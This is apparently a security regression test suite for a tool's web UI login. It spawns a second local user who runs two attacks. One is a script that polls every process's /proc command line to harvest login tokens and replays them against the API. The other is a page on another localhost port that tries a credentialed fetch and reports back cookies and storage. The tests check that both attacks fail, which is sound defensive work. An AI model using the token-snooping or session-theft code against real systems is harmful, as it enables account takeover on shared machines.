// Attacks on the web UI's login by another local user (a real second user, made for the test), with
// the developer's side in real Chromium against the real `hearth serve`:
// 1. `hearth serve --open` hands the browser opener (`xdg-open`) an argument every user can read in
//    /proc/PID/cmdline. It used to be the token URL: whoever read it first had the UI, and with it
//    code execution (a service reading stdin runs what `input` sends). The attacker polls every
//    command line while serve opens the browser and tries everything it finds. Now the argument is
//    a file in the private `.hearth/` the attacker cannot read; the developer's browser opens it and
//    is logged in.
// 2. The session used to be a cookie, and cookies are not port-scoped: a page the attacker serves on
//    another port of 127.0.0.1 received it when the developer's browser visited it. Now nothing of the
//    session reaches another port, and the attacker's page cannot use the UI's API from there.
import { spawn, type ChildProcess } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { secondUser } from '../helpers/second-user';
import { makeTempDir } from '../helpers/temp-dir';
import { waitFor } from '../helpers/wait-for';
import { launchBrowser, screenshot, servicesList } from './browser';
import { REPO } from './serve';

let browser: Browser;
const cleanups: Array<() => void | Promise<void>> = [];
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

interface Serve {
  child: ChildProcess;
  dir: string;
  port: number;
  url: string;
  output(): string;
}

/** `hearth serve [--open]` on a one-service stack in a folder other users may look into (0755). */
async function startServe(args: string[], env: Record<string, string> = {}): Promise<Serve> {
  const { dir: root, cleanup } = makeTempDir('hl-');
  cleanups.push(cleanup);
  chmodSync(root, 0o755);
  const dir = join(root, 'stack');
  mkdirSync(dir, { mode: 0o755 });
  // Its one line carries a right-to-left override: the UI must show it, not obey it.
  writeFileSync(join(dir, 'hearth.yaml'), "services:\n  api:\n    cmd: |\n      printf 'login ok: user=guest\\342\\200\\256 nimda=resu\\n'; exec sleep 1000\n");
  const child = spawn(process.execPath, [join(REPO, 'bin', 'hearth.js'), 'serve', '-f', join(dir, 'hearth.yaml'), ...args], {
    cwd: dir,
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { ...process.env, NO_COLOR: '1', ...env },
  });
  let out = '';
  child.stdout!.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr!.on('data', (d: Buffer) => (out += d.toString()));
  cleanups.push(async () => {
    if (child.exitCode === null) {
      child.kill('SIGTERM');
      await new Promise((resolve) => child.once('exit', resolve));
    }
  });
  // The `?token=` form too, so that these attacks can be (and were) shown to work against the code before the fix.
  const url = await waitFor(() => /^Hearth UI: (http:\/\/127\.0\.0\.1:\d+\/(?:#code|\?token)=[\w-]+)$/m.exec(out)?.[1], {
    timeoutMs: 60_000,
    what: 'the "Hearth UI:" line',
  }).catch((error: unknown) => {
    throw new Error(`${(error as Error).message}; serve said:\n${out}`);
  });
  return { child, dir, port: Number(new URL(url).port), url, output: () => out };
}

/**
 * The attacker: reads every process's command line, every 10 ms, until it has seen the opener come and
 * go; tries each login code it finds against the UI, and each file named there that it can read.
 */
const SNOOP = `
const fs = require('fs'), http = require('http');
const port = Number(process.argv[1]);
const seen = new Set(); let sawOpener = false, openerGone = false;
const tries = [];
const ask = (method, path, body) => new Promise((resolve) => {
  const req = http.request({ host: '127.0.0.1', port, method, path, headers: body ? { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) } : {} }, (res) => { res.resume(); resolve(res.statusCode); });
  req.on('error', (e) => resolve(e.code)); req.end(body);
});
// Every way a secret could let one in: as a login code, and as a token in the query.
const tryCode = async (secret) => {
  const asCode = await ask('POST', '/api/session', JSON.stringify({ code: secret }));
  const asToken = await ask('GET', '/api/status?token=' + secret);
  return asCode === 200 || asToken === 200 ? 200 : asCode;
};
const start = Date.now();
const tick = async () => {
  let opener = false;
  for (const pid of fs.readdirSync('/proc')) {
    if (!/^\\d+$/.test(pid)) continue;
    let argv; try { argv = fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').split('\\0'); } catch { continue; }
    if (argv.some((a) => a.endsWith('xdg-open'))) { opener = true; sawOpener = true; }
    for (const arg of argv) {
      if (seen.has(arg)) continue; seen.add(arg);
      for (const m of arg.matchAll(/(?:code|token)=([\\w-]{43})/g)) tries.push({ from: 'argv', status: await tryCode(m[1]) });
      if (arg.startsWith('/') && arg.includes('.hearth')) {
        try { const text = fs.readFileSync(arg, 'utf8'); for (const m of text.matchAll(/code=([\\w-]{43})/g)) tries.push({ from: 'file', status: await tryCode(m[1]) }); }
        catch (e) { tries.push({ from: 'file', read: e.code }); }
      }
    }
  }
  if (sawOpener && !opener) openerGone = true;
  if (openerGone || Date.now() - start > 30000) { console.log(JSON.stringify({ sawOpener, tries })); process.exit(0); }
  setTimeout(tick, 10);
};
console.log('SNOOPING'); tick();
`;

describe('logging in to the web UI, with another user on the machine', () => {
  it('`serve --open` puts nothing on the opener\'s command line that another user can log in with', async (ctx) => {
    const attacker = secondUser(ctx, 'argv');
    // The developer's browser opener: records what it was given, stays visible a moment, as a real one does.
    const { dir: bin, cleanup } = makeTempDir('hb-');
    cleanups.push(cleanup);
    const given = join(bin, 'given');
    writeFileSync(join(bin, 'xdg-open'), `#!/bin/sh\nprintf '%s\\n' "$@" > ${given}.tmp && mv ${given}.tmp ${given}\nsleep 1\n`, { mode: 0o755 });

    // The attacker knows the port as soon as serve listens (any user can list listening sockets); here it
    // is fixed up front so the snooping starts before the opener runs.
    const port = await freePort();
    const snoop = attacker.spawnNode(SNOOP, [String(port)]);
    let report = '';
    snoop.stdout!.on('data', (d: Buffer) => (report += d.toString()));
    await waitFor(() => report.includes('SNOOPING'), { what: 'the attacker to start snooping' });

    const serve = await startServe(['--open', '--port', String(port)], { PATH: `${bin}:${process.env.PATH}` });
    await waitFor(() => existsSync(given), { what: 'the opener to be called', timeoutMs: 30_000 });
    const [target] = readFileSync(given, 'utf8').trim().split('\n');
    await waitFor(() => report.includes('"sawOpener"'), { what: 'the attacker to finish', timeoutMs: 40_000 });
    const result = JSON.parse(report.split('\n').find((l) => l.includes('"sawOpener"'))!) as { sawOpener: boolean; tries: Array<{ from: string; status?: number | string; read?: string }> };

    // The attacker watched the opener run and tried all it found: nothing let it in. It found the file the
    // opener was given, and could not read it.
    expect(result.sawOpener).toBe(true);
    expect(result.tries.filter((t) => t.status === 200)).toEqual([]);
    expect(target).toMatch(new RegExp(`^${serve.dir}/\\.hearth/login-[0-9a-f]{16}\\.html$`));
    expect(result.tries).toContainEqual({ from: 'file', read: 'EACCES' });
    expect(serve.output()).not.toMatch(/a login link was used a second time/);

    // The developer's browser opens what it was given, and is in.
    const context = await browser.newContext();
    cleanups.push(() => context.close());
    const page = await context.newPage();
    await page.goto(`file://${target}`);
    await servicesList(page).getByRole('listitem', { name: 'api', exact: true }).waitFor({ timeout: 30_000 });
    expect(new URL(page.url()).origin).toBe(`http://127.0.0.1:${port}`);
    expect(new URL(page.url()).hash).toBe('');
    await waitFor(() => /a browser tab logged in to the UI/.test(serve.output()), { what: 'serve to tell of the login' });
  });

  it('nothing of the session reaches a page another user serves on another port, and that page cannot use the API', async (ctx) => {
    const attacker = secondUser(ctx, 'cookie');
    const serve = await startServe([]);
    // The attacker's page: records every request's headers, and from the browser tries the UI's API.
    const page = attacker.spawnNode(
      `
const http = require('http');
const target = process.argv[1];
const html = '<!doctype html><script>' +
  'const report = (what) => fetch("/report", { method: "POST", body: JSON.stringify(what) });' +
  'fetch(' + JSON.stringify(target) + ' + "/api/status", { credentials: "include" })' +
  '.then((r) => report({ api: r.status, cookie: document.cookie, stored: sessionStorage.length }), (e) => report({ api: String(e), cookie: document.cookie, stored: sessionStorage.length }));' +
  '</script>';
const server = http.createServer((req, res) => {
  let body = ''; req.on('data', (d) => (body += d)); req.on('end', () => {
    console.log(JSON.stringify({ path: req.url, headers: req.headers, body }));
    res.setHeader('Content-Type', 'text/html'); res.end(req.url === '/' ? html : 'ok');
  });
});
server.listen(0, '127.0.0.1', () => console.log('PORT ' + server.address().port));
`,
      [`http://127.0.0.1:${serve.port}`],
    );
    let log = '';
    page.stdout!.on('data', (d: Buffer) => (log += d.toString()));
    const evilPort = Number(await waitFor(() => /PORT (\d+)/.exec(log)?.[1], { what: "the attacker's server" }));

    // The developer logs in, then (same browser, same profile) visits the attacker's page.
    const context = await browser.newContext();
    cleanups.push(() => context.close());
    const ui = await context.newPage();
    await ui.goto(serve.url);
    await servicesList(ui).getByRole('listitem', { name: 'api', exact: true }).waitFor({ timeout: 30_000 });
    const visit = await context.newPage();
    await visit.goto(`http://127.0.0.1:${evilPort}/`);
    const requests = await waitFor(
      () => {
        const lines = log.split('\n').filter((l) => l.startsWith('{'));
        return lines.some((l) => l.includes('"/report"')) ? lines.map((l) => JSON.parse(l) as { path: string; headers: Record<string, string>; body: string }) : undefined;
      },
      { what: "the attacker's page to report back", timeoutMs: 20_000 },
    );
    for (const r of requests) expect(r.headers.cookie, `${r.path} carried a cookie`).toBeUndefined();
    const reported = JSON.parse(requests.find((r) => r.path === '/report')!.body) as { api: unknown; cookie: string; stored: number };
    expect(reported).toEqual({ api: 'TypeError: Failed to fetch', cookie: '', stored: 0 });
    // The UI itself is still logged in, with nothing in its cookies either.
    expect(await ui.evaluate('document.cookie')).toBe('');
    expect(await ui.evaluate('sessionStorage.length')).toBe(1);
    // And its log shows the service's bidi override as a mark, in the order the line was written.
    const row = ui.getByRole('log').locator('.log-row.stream-stdout', { hasText: 'login ok' });
    await row.waitFor({ timeout: 15_000 });
    expect(await row.locator('.log-text').textContent()).toBe('login ok: user=guest⟨U+202E RLO⟩ nimda=resu');
    await screenshot(ui, 'bidi-mark');
  });
});

function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const s = createServer();
    s.listen(0, '127.0.0.1', () => {
      const port = (s.address() as { port: number }).port;
      s.close(() => resolve(port));
    });
    s.on('error', reject);
  });
}
